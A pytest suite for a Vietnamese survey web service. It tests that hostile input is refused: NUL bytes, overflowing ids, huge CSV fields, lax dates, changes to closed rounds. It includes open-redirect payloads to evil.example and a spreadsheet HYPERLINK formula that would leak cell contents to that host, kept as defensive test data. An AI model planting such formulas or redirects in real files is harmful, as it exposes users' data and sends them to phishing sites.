"""Hostile and odd input that once gave a server error or did something unsafe, on both databases: NUL
characters, overflowing ids and pages, broken CSV files, open redirects after login, changes to a closed
round, formula injection in exports, the headers of errors and downloads."""
from __future__ import annotations

import csv
import io
import logging
import re
from datetime import date, timedelta
from types import SimpleNamespace

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa

from survey_service.models import (
    Agency, AuditEvent, CodeBatch, Draft, InvitationCode, QuotaCell, Response, Sheet, SheetEvent, SheetState,
)
from survey_service.services import imports, invitations, keying, rounds, sheets, tabular
from survey_service.web import NUL_MESSAGE, safe_next
from tests.conftest import SECRET, collect_from_today
from tests.results.conftest import Builder, csv_bytes, import_all


def count(session, model) -> int:
    return session.scalar(sa.select(sa.func.count()).select_from(model))


def form_of(html: str) -> tuple[str, dict[str, str]]:
    """The action and hidden fields of the page's questionnaire form."""
    action = re.search(r'<form method="post" action="([^"]+)" class="questionnaire"', html).group(1)
    hidden = dict(re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', html))
    return action, hidden


# --- NUL ---------------------------------------------------------------------------------------------
def test_nul_in_a_respondents_answer_is_a_400_in_vietnamese_and_nothing_is_stored(
        app, client, loaded_round, session):
    collect_from_today(session, loaded_round)
    cell = invitations.find_cell(session, loaded_round, "CC-CT", "SNV")
    [code] = [c.code for c in invitations.issue_codes(session, cell, 1, actor="test").codes]
    session.commit()
    page = client.get(f"/c/{code}", follow_redirects=True)
    action, hidden = form_of(page.get_data(as_text=True))
    questionnaire = rounds.questionnaire_for(session, loaded_round, "CC-CT")
    answers = {i.code: ("3" if i.kind == "scale" else "Cần\x00 nhanh hơn") for i in questionnaire.items}
    for step in ("save", "submit"):
        answer = client.post(action, data={**hidden, **answers, "action": step})
        assert answer.status_code == 400 and "NUL" in answer.get_data(as_text=True), step
    assert count(session, Response) == 0
    assert all("\x00" not in str(d.answers) for d in session.scalars(sa.select(Draft)))


@pytest.mark.parametrize("path", ["/staff/invitations/?round=%00", "/staff/admin/audit?action=a%00",
                                  "/paper/ledger?form=%00", "/staff/results/%00/", "/c/%00",
                                  "/api/v1/rounds/%00/quotas"])
def test_nul_in_a_path_or_query_is_a_400_for_anyone(app, loaded_round, client, make_user, auth, path):
    make_user("admin", username="quantri")
    for logged_in in (False, True):
        if logged_in:
            auth.login("quantri")
        answer = client.get(path)
        assert answer.status_code == 400, (path, logged_in)
        if path.startswith("/api/"):
            assert answer.get_json()["message"] == NUL_MESSAGE
        else:
            assert NUL_MESSAGE in answer.get_data(as_text=True)


def test_nul_in_the_login_form_is_a_400(app, client, make_user, session):
    make_user("admin", username="quantri")
    for data in ({"username": "quantri\x00", "password": "x"}, {"username": "quantri", "password": "\x00" * 10}):
        answer = client.post("/staff/login", data=data)
        assert answer.status_code == 400 and "NUL" in answer.get_data(as_text=True)
    assert client.post("/", data={"code": "ABCD\x00"}).status_code == 400


# --- secrets compared with what a client sends ------------------------------------------------------------
@pytest.mark.parametrize("cookie", ["1|" + "é" * 128, "1.0|" + "0" * 128, "Đ"])
def test_a_remember_me_cookie_is_ignored_whatever_it_holds(app, client, make_user, cookie):
    user = make_user("admin", username="quantri")
    client.set_cookie("remember_token", cookie.replace("1", str(user.id), 1))
    answer = client.get("/staff/")
    assert answer.status_code == 302 and "/staff/login" in answer.headers["Location"]


# --- what the error log gets -----------------------------------------------------------------------------
def test_an_unexpected_database_error_logs_where_it_failed_not_what_it_was_writing(app, client, caplog):
    from survey_service.db import get_session

    said = "Câu trả lời không vào nhật ký lỗi 5521"

    def write_half_an_answer():
        get_session().execute(sa.text("INSERT INTO answer (item_code, value) VALUES (:item, :value)"),
                              {"item": "E18", "value": said})

    app.add_url_rule("/write-half-an-answer", "half_answer", write_half_an_answer)
    caplog.set_level(logging.INFO, logger="sqlalchemy.engine")  # statements logged too, as with echo on
    with caplog.at_level(logging.DEBUG):
        answer = client.get("/write-half-an-answer")
    assert answer.status_code == 500 and "Lỗi hệ thống" in answer.get_data(as_text=True)
    assert "INSERT INTO answer" in caplog.text
    assert "sqlalchemy.exc.IntegrityError" in caplog.text and "half_answer" in caplog.text
    assert "in write_half_an_answer" in caplog.text and "test_hardening.py" in caplog.text  # where
    assert "5521" not in caplog.text and "không vào" not in caplog.text  # not what


# --- ids, pages and CSV files that overflowed ----------------------------------------------------------
def test_revoke_with_an_overflowing_or_unicode_digit_id_is_a_400(app, loaded_round, session, staff_client):
    collect_from_today(session, loaded_round)  # a closed round's codes cannot be revoked at all
    cell = invitations.find_cell(session, loaded_round, "CC-CT", "SNV")
    batch = invitations.issue_codes(session, cell, 2, actor="test")
    session.commit()
    client = staff_client("supervisor")
    for bad in ("99999999999999999999", "²", "-1", "0", " 1"):
        answer = client.post(f"/staff/invitations/batches/{batch.id}/revoke", data={"code_id": bad})
        assert answer.status_code == 400, bad
        assert "Vui lòng chọn" in answer.get_data(as_text=True)
    good = client.post(f"/staff/invitations/batches/{batch.id}/revoke",
                       data={"code_id": str(batch.codes[0].id), "confirmed": "1"})
    assert good.status_code == 303


def test_audit_page_past_the_end_shows_the_last_page(app, staff_client):
    client = staff_client("admin")
    for page in ("999999999999999999", "-5", "99999999999999999999999999"):
        answer = client.get(f"/staff/admin/audit?page={page}")
        assert answer.status_code == 200, page
        assert "user.create" in answer.get_data(as_text=True)


def plan_upload(client, rnd, body: bytes):
    return client.post(f"/staff/progress/{rnd.code}/quotas/import",
                       data={"file": (io.BytesIO(body), "plan.csv")}, content_type="multipart/form-data")


def test_quota_csv_with_cr_line_endings_is_read(app, loaded_round, session, staff_client):
    collect_from_today(session, loaded_round)
    client = staff_client("supervisor")
    body = "form_code,agency_code,target\rCC-CT,SNV,77\r".encode()
    assert plan_upload(client, loaded_round, body).status_code == 302
    assert invitations.find_cell(session, loaded_round, "CC-CT", "SNV").target == 77


def test_quota_csv_with_a_huge_field_a_unicode_digit_or_many_bad_rows_is_refused_in_vietnamese(
        app, loaded_round, session, staff_client):
    collect_from_today(session, loaded_round)  # a closed round's plan is refused before its file is read
    client = staff_client("supervisor")
    huge = plan_upload(client, loaded_round,
                       ("form_code,agency_code,target\nCC-CT,SNV," + "9" * 140_000 + "\n").encode())
    assert huge.status_code == 422 and "có ô dài quá 131.072 ký tự" in huge.get_data(as_text=True)
    sup = plan_upload(client, loaded_round, "form_code,agency_code,target\nCC-CT,SNV,²\n".encode())
    text = sup.get_data(as_text=True)
    assert sup.status_code == 422 and "phải là số nguyên không âm" in text and "invalid literal" not in text
    many = plan_upload(client, loaded_round, ("form_code,agency_code,target\n" + "XX,SNV,1\n" * 20_000).encode())
    text = many.get_data(as_text=True)
    assert many.status_code == 422 and "20000 lỗi" in text and "và 19800 lỗi khác" in text
    assert text.count("<li>Dòng") == 200


def test_cli_import_with_a_200k_character_field_names_the_line(app, loaded_round, runner, session, tmp_path):
    collect_from_today(session, loaded_round)
    builder = Builder(session, loaded_round)
    rows = [builder.row("CC-CT", "SNV", "3"), builder.row("CC-CT", "SNV", "3", E18="x" * 200_000)]
    path = tmp_path / "long.csv"
    path.write_bytes(csv_bytes(rows))
    result = runner.invoke(args=["responses", "import", "--round", "QNA-2023", str(path)])
    assert result.exit_code == 1 and "Traceback" not in result.output
    assert "dòng 3: có ô dài quá 131.072 ký tự" in result.output
    assert count(session, Response) == 0


# --- open redirect -------------------------------------------------------------------------------------
@pytest.mark.parametrize("target", ["/%09/evil.example/phish", "//evil.example", "/\\evil.example",
                                    "https://evil.example/", "/%0a/evil.example", "/ /evil.example"])
def test_login_never_redirects_off_the_site(app, client, make_user, target):
    make_user("analyst", username="phantich")
    answer = client.post(f"/staff/login?next={target}", data={"username": "phantich",
                                                              "password": "correct-horse-battery"})
    assert answer.status_code == 302 and answer.headers["Location"] == "/staff/"


def test_login_keeps_a_same_site_next():
    assert safe_next("/staff/results/QNA-2023/?kind=district") == "/staff/results/QNA-2023/?kind=district"
    assert safe_next("/staff/\t/x") is None and safe_next("evil.example") is None and safe_next("") is None


# --- a closed round's data ----------------------------------------------------------------------------
def test_a_closed_rounds_sheet_is_not_keyed_until_the_round_is_reopened(app, loaded_round, session, make_user,
                                                                          auth, client):
    collect_from_today(session, loaded_round)
    plans = sheets.paper_cells(session, loaded_round, form_code="LĐH-CH", agency_code="SNV")
    sheet = sheets.issue_sheets(session, loaded_round, plans, actor="test")[0]
    session.commit()
    rounds.close(session, loaded_round, secret="test-secret", actor="test")
    session.commit()
    make_user("clerk", username="buudien")
    auth.login("buudien")
    form = keying.sheet_form(session, sheet)
    data = {keying.slot_name(row.key, item.code): "3" for row in form.rows for item in form.questionnaire.scale_items}
    keyed = client.post(f"/paper/sheets/{sheet.serial}/key", data=data)
    assert keyed.status_code == 409 and "đã kết thúc nhận phiếu" in keyed.get_data(as_text=True)
    assert count(session, Response) == 0 and session.get(Sheet, sheet.id).state is SheetState.ISSUED

    today = rounds.local_today()
    rounds.schedule(session, loaded_round, today - timedelta(days=1), today + timedelta(days=1), actor="test")
    session.commit()
    assert session.scalar(sa.select(AuditEvent).where(AuditEvent.action == "round.schedule")) is not None
    keyed = client.post(f"/paper/sheets/{sheet.serial}/key", data=data)
    assert keyed.status_code in (200, 302, 303) and count(session, Response) == 1


def test_import_refuses_a_closed_round_and_days_outside_its_window(app, loaded_round, session):
    builder = Builder(session, loaded_round)
    rnd = loaded_round
    inside = rnd.opens_on + timedelta(days=1)
    rows = [builder.row("CC-CT", "SNV", "3", submitted_on=d) for d in ("0001-01-01", "9999-12-31",
                                                                     inside.isoformat())]
    with pytest.raises(imports.ImportRejected) as rejected:
        imports.import_responses(session, rnd, csv_bytes(rows), today=rnd.closes_on, secret=SECRET, actor="test")
    assert [e.line for e in rejected.value.errors] == [2, 3]
    assert "nằm ngoài thời gian nhận phiếu" in rejected.value.errors[0].message
    with pytest.raises(imports.ImportRejected) as closed:
        imports.import_responses(session, rnd, csv_bytes(rows[2:]), today=rnd.closes_on + timedelta(days=1),
                                 secret=SECRET)
    assert "đã kết thúc nhận phiếu" in closed.value.errors[0].message
    report = imports.import_responses(session, rnd, csv_bytes(rows[2:]), today=rnd.closes_on, secret=SECRET,
                                      actor="test")
    assert report.responses == 1


NOT_YYYY_MM_DD = "không đúng dạng YYYY-MM-DD (ví dụ 2023-10-01, không có khoảng trắng hay ký tự nào khác)"
#: Dates Python would read (date.fromisoformat, strptime or after strip()) that are not written YYYY-MM-DD.
LAX_DATES = ["20231001", "2023-10-1", " 2023-10-01", "2023-10-01 ", "\xa02023-10-01", "2023-10-01\xa0",
             "2023-W40-1", "٢٠٢٣-١٠-٠١", "２０２３-１０-０１", "2023-10-01T00:00"]


def test_an_imported_date_is_exactly_yyyy_mm_dd(app, loaded_round, session, staff_client):
    builder = Builder(session, loaded_round)
    day = date(2023, 10, 1)
    written = [*LAX_DATES, "2023-02-30", day.isoformat()]
    rows = [builder.row("CC-CT", "SNV", "3", submitted_on=text) for text in written]
    with pytest.raises(imports.ImportRejected) as rejected:
        imports.import_responses(session, loaded_round, csv_bytes(rows), today=day, secret=SECRET, actor="test")
    expected = [f"dòng {line}: ngày {text!r} {NOT_YYYY_MM_DD}." for line, text in enumerate(LAX_DATES, 2)]
    expected.append(f"dòng {len(LAX_DATES) + 2}: ngày '2023-02-30' không phải một ngày có thật.")
    assert [str(e) for e in rejected.value.errors] == expected  # every row but the last, YYYY-MM-DD one
    assert count(session, Response) == 0
    blank = [builder.row("CC-CT", "SNV", "3", submitted_on=" "), rows[-1]]  # (a blank cell is no date)
    report = import_all(session, loaded_round, csv_bytes(blank), today=day)
    assert report.responses == 2
    assert set(session.scalars(sa.select(Response.submitted_on))) == {day}  # the day of their release


    collect_from_today(session, loaded_round)
    upload = csv_bytes([builder.row("CC-CT", "SNV", "3", submitted_on="20261201")])
    page = staff_client("supervisor").post("/staff/responses/QNA-2023/import",
                                           data={"file": (io.BytesIO(upload), "ngay.csv")},
                                           content_type="multipart/form-data")
    html = page.get_data(as_text=True)
    assert page.status_code == 422 and f"dòng 2: ngày &#39;20261201&#39; {NOT_YYYY_MM_DD}." in html
    assert count(session, Response) == 2  # (the two above)


CLOSED = "đã kết thúc nhận phiếu"


@pytest.fixture(params=["closed_early", "past_its_date"])
def closed_round(request, loaded_round, session):
    """QNA-2023 after its close, early (*Đóng đợt*) or by its date, with what it issued while open: a batch of
    CC-CT codes for Sở Nội vụ and its two LĐH-CH sheets."""
    rnd = loaded_round
    collect_from_today(session, rnd)
    cell = invitations.find_cell(session, rnd, "CC-CT", "SNV")
    batch = invitations.issue_codes(session, cell, 2, actor="test")
    plans = sheets.paper_cells(session, rnd, form_code="LĐH-CH", agency_code="SNV")
    issued = sheets.issue_sheets(session, rnd, plans, actor="test")
    session.commit()
    if request.param == "closed_early":
        rounds.close(session, rnd, secret="test-secret", actor="test")
    else:
        today = rounds.local_today()
        rnd.opens_on, rnd.closes_on = today - timedelta(days=30), today - timedelta(days=1)
    session.commit()
    return SimpleNamespace(round=rnd, cell=cell, batch=batch, sheet=issued[0])


def rnd_cells(session, rnd) -> list[QuotaCell]:
    return list(session.scalars(sa.select(QuotaCell).where(QuotaCell.round_id == rnd.id)))


def collected(session) -> dict:
    """Everything issuing codes, printing, returns and soft-closes write."""
    session.expire_all()
    soft_closed = sa.select(QuotaCell.id).where(QuotaCell.soft_closed.is_(True))
    tables = (CodeBatch, InvitationCode, Sheet, SheetEvent)
    return {model.__name__: count(session, model) for model in tables} | {
        "states": sorted((s.serial, s.state.value) for s in session.scalars(sa.select(Sheet))),
        "soft_closed": sorted(session.scalars(soft_closed)),
        "codes": sorted(session.execute(sa.select(InvitationCode.id, InvitationCode.status)).all()),
        "targets": sorted(session.execute(sa.select(QuotaCell.id, QuotaCell.target, QuotaCell.staff_count)).all()),
        "audit": session.scalar(sa.select(sa.func.count()).where(AuditEvent.object_type != "staff_user"))}


def test_a_closed_round_takes_no_codes_sheets_returns_or_soft_close_on_its_pages(
        closed_round, session, client, auth, make_user):
    rnd, cell, serial = closed_round.round, closed_round.cell, closed_round.sheet.serial
    supervisor, clerk = make_user("supervisor"), make_user("clerk")
    before = collected(session)

    def refused(url: str, data: dict) -> str:
        answer = client.post(url, data=data)
        html = answer.get_data(as_text=True)
        assert answer.status_code == 409 and CLOSED in html and "gia hạn (mở lại) đợt" in html, (url, data)
        return html

    auth.login(supervisor.username)
    refused(f"/staff/invitations/cells/{cell.id}/issue", {"count": "5"})
    refused(f"/paper/print?round={rnd.code}", {"cell_choice": "LĐH-CH|SNV", "extra": "1"})
    refused(f"/paper/ledger/{serial}/reprint", {})  # refused before it asks to confirm
    refused(f"/paper/ledger/{serial}/reprint", {"confirmed": "1"})
    for closed in ("1", "0"):
        for confirmed in ({}, {"confirmed": "1"}):  # refused before it asks to confirm, and after
            refused(f"/staff/progress/{rnd.code}/cells/{cell.id}/soft-close", {"closed": closed} | confirmed)
    batch = closed_round.batch
    refused(f"/staff/invitations/batches/{batch.id}/revoke", {"all": "1", "confirmed": "1"})
    refused(f"/staff/invitations/batches/{batch.id}/revoke", {"code_id": str(batch.codes[0].id), "confirmed": "1"})
    plan = {f"{what}-{c.id}": "" if value is None else str(value) for c in rnd_cells(session, rnd)
            for what, value in (("target", c.target), ("staff", c.staff_count))}
    refused(f"/staff/progress/{rnd.code}/quotas", plan | {f"target-{cell.id}": "99"})
    refused(f"/staff/progress/{rnd.code}/quotas/recommended", {})
    answer = client.post(f"/staff/progress/{rnd.code}/quotas/import", data={
        "file": (io.BytesIO("form_code,agency_code,target\nCC-CT,SNV,99\n".encode()), "plan.csv")})
    assert answer.status_code == 409 and CLOSED in answer.get_data(as_text=True)
    # its pages say why, and offer none of the buttons the service would refuse
    for url, buttons in ((f"/staff/invitations/?round={rnd.code}", ["Phát mã"]),
                         (f"/staff/invitations/batches/{batch.id}", ["Thu hồi các mã", 'name="code_id"']),
                         (f"/staff/progress/{rnd.code}", ["Tạm khóa</button>"]),
                         (f"/staff/progress/{rnd.code}/quotas",
                          ["Nhập tệp CSV</button>", "Lưu kế hoạch", "Đặt chỉ tiêu ="])):
        html = client.get(url).get_data(as_text=True)
        assert 'id="round-closed"' in html and "gia hạn (mở lại) đợt" in html, url
        assert not any(b in html for b in buttons), url
    # what it collected can still be read and exported
    for url in (f"/staff/invitations/?round={rnd.code}", f"/staff/invitations/batches/{closed_round.batch.id}.csv",
                f"/paper/ledger?round={rnd.code}", f"/paper/ledger/{serial}", f"/staff/progress/{rnd.code}",
                f"/staff/progress/{rnd.code}/quotas.csv", f"/staff/results/{rnd.code}/"):
        assert client.get(url).status_code == 200, url
    auth.logout()
    auth.login(clerk.username)
    page = refused(f"/paper/returns?round={rnd.code}", {"codes": serial})
    assert "Chưa ghi nhận phiếu nào" in page and serial in page  # the scanned serials stay in the box
    assert collected(session) == before


def test_a_closed_round_takes_no_codes_sheets_or_returns_from_the_command_line(closed_round, runner, session,
                                                                               tmp_path):
    rnd, serial = closed_round.round, closed_round.sheet.serial
    before = collected(session)
    out = tmp_path / "out"
    for args in (["codes", "issue", "--round", rnd.code, "--form", "CC-CT", "--agency", "SNV", "--count", "3",
                  "--out", str(out)],
                 ["sheets", "print", "--round", rnd.code, "--form", "LĐH-CH", "--extra", "1",
                  "--out", str(out)],
                 ["sheets", "reprint", serial, "--out", str(out)],
                 ["sheets", "return", "--round", rnd.code, serial]):
        result = runner.invoke(args=args)
        assert result.exit_code == 1 and CLOSED in result.output, (args, result.output)
        assert "Traceback" not in result.output and not out.exists(), args
    assert collected(session) == before
    status = runner.invoke(args=["sheets", "status", "--round", rnd.code])
    assert status.exit_code == 0 and "LĐH-CH" in status.output


def test_issuing_and_returns_work_again_once_the_round_is_reopened(closed_round, session):
    rnd = closed_round.round
    with pytest.raises(invitations.InvitationError) as refused:
        invitations.issue_codes(session, closed_round.cell, 1, actor="test")
    assert refused.value.status == 409 and CLOSED in str(refused.value)
    today = rounds.local_today()
    rounds.schedule(session, rnd, today - timedelta(days=1), today + timedelta(days=1), actor="test")
    assert invitations.issue_codes(session, closed_round.cell, 1, today=today, actor="test").count == 1
    report = sheets.record_returns(session, rnd, [closed_round.sheet.serial], ["test-sheet-key"], today=today,
                                   by=None, actor="test")
    assert [s.serial for s in report.recorded] == [closed_round.sheet.serial]


# --- formula injection -------------------------------------------------------------------------------
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Sở Nội vụ")'


@pytest.fixture
def evil_agency(loaded_round, session):
    agency = session.scalar(sa.select(Agency).where(Agency.round_id == loaded_round.id, Agency.code == "SNV"))
    agency.name = EVIL
    session.commit()
    return agency


def csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def test_no_export_carries_a_live_formula(app, loaded_round, evil_agency, session, staff_client):
    client = staff_client("supervisor")
    rnd = loaded_round
    cell = invitations.find_cell(session, rnd, "CC-CT", "SNV")
    batch = invitations.issue_codes(session, cell, 1, today=rnd.opens_on, actor="test")
    session.commit()
    for url in (f"/staff/progress/{rnd.code}/progress.csv", f"/staff/progress/{rnd.code}/quotas.csv",
                f"/staff/invitations/batches/{batch.id}.csv"):
        body = client.get(url).data
        assert "'" + EVIL in csv_cells(body), url
        assert not any(c.startswith(("=", "+", "-", "@")) for c in csv_cells(body)), url

    book = openpyxl.load_workbook(io.BytesIO(client.get(f"/staff/progress/{rnd.code}/progress.xlsx").data))
    cells = [c for row in book.active.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)

    builder = Builder(session, rnd)
    builder.load([builder.row("CC-CT", "SNV", v) for v in "12345"])
    for fmt in ("xlsx", "csv"):
        body = client.get(f"/staff/results/{rnd.code}/download.{fmt}").data
        if fmt == "csv":
            data_cells = csv_cells(b"\n".join(row for row in body.splitlines() if not row.startswith(b"#")))
            assert "'" + EVIL in data_cells
        else:
            book = openpyxl.load_workbook(io.BytesIO(body))
            cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value == EVIL]
            assert cells and all(c.data_type == "s" for c in cells)


def test_csv_frame_neutralises_text_and_categories_but_not_numbers():
    frame = pd.DataFrame({"text": ["-Cần =SUM(A1:A9)", "ổn", None], "n": [-1.5, 2.0, 3.0],
                          "code": pd.Categorical(["@x", "SNV", "@x"]), "mixed": [1, "+1", None]})
    out = tabular.csv_frame(frame)
    assert out["text"].tolist()[:2] == ["'-Cần =SUM(A1:A9)", "ổn"] and out["n"].tolist() == [-1.5, 2.0, 3.0]
    assert out["code"].tolist() == ["'@x", "SNV", "'@x"] and out["mixed"].tolist()[:2] == [1, "'+1"]


# --- headers -----------------------------------------------------------------------------------------
def test_405_keeps_the_allow_header(app, client, make_user, session):
    from survey_service.services import users

    user = make_user("analyst")
    token = users.issue_api_token(session, user)
    session.commit()
    for url, headers in (("/api/v1/rounds/QNA-2023/quotas", {"Authorization": f"Bearer {token}"}),
                         ("/staff/logout", {})):
        answer = client.delete(url, headers=headers)
        assert answer.status_code == 405 and answer.headers.get("Allow"), url


def test_openapi_declares_the_form_codes(app, client):
    doc = client.get("/api/v1/openapi.json").get_json()
    [form] = [p for p in doc["paths"]["/rounds/{round}/quotas"]["get"]["parameters"] if p["name"] == "form"]
    enum = form["schema"]["enum"]
    # every form of forms.yaml: QNA-2023's eight first, then DNG-2026's
    assert enum[:8] == ["CC-CT", "CC-ND", "CC-CH", "LĐ-CP", "LĐX-CH", "HĐ-CT", "LĐH-CH", "LĐS-CT"]
    assert {"CC-TP", "LĐ-PX", "HĐ-TP"} <= set(enum) and len(enum) == len(set(enum))


def test_exports_are_not_cached_and_https_gets_hsts(app, loaded_round, session, staff_client):
    client = staff_client("supervisor")
    cell = invitations.find_cell(session, loaded_round, "CC-CT", "SNV")
    batch = invitations.issue_codes(session, cell, 1, today=loaded_round.opens_on, actor="test")
    session.commit()
    for url in (f"/staff/invitations/batches/{batch.id}.csv", f"/staff/invitations/batches/{batch.id}.pdf",
                f"/staff/progress/{loaded_round.code}/progress.xlsx",
                f"/staff/results/{loaded_round.code}/download.csv"):
        answer = client.get(url)
        assert answer.status_code == 200 and answer.headers["Cache-Control"] == "no-store", url
    assert "Strict-Transport-Security" not in client.get("/").headers
    assert client.get("/", base_url="https://localhost").headers["Strict-Transport-Security"].startswith("max-age=")


def test_the_code_issuing_page_of_a_closed_round_says_so_in_the_browser(closed_round, staff_page, live_server,
                                                                        artifacts):
    """*Phát mã* in Chromium: the closed round's page shows its codes and the sentence, and no issuing form."""
    rnd, batch = closed_round.round, closed_round.batch
    page = staff_page("supervisor", "phone")
    page.goto(f"{live_server}/staff/invitations/?round={rnd.code}")
    note = page.locator("#round-closed")
    assert note.is_visible() and "đã kết thúc nhận phiếu" in note.inner_text()
    assert page.get_by_role("button", name="Phát mã").count() == 0
    assert page.locator("form.issue").count() == 0
    page.screenshot(path=str(artifacts / "codes-closed-round.png"), full_page=True)
    page.goto(f"{live_server}/staff/invitations/batches/{batch.id}")
    assert page.locator("#round-closed").is_visible()
    assert page.get_by_role("button", name="Thu hồi các mã đã chọn").count() == 0
    assert page.get_by_role("checkbox").count() == 0
    assert all(code.code in page.content() for code in batch.codes)
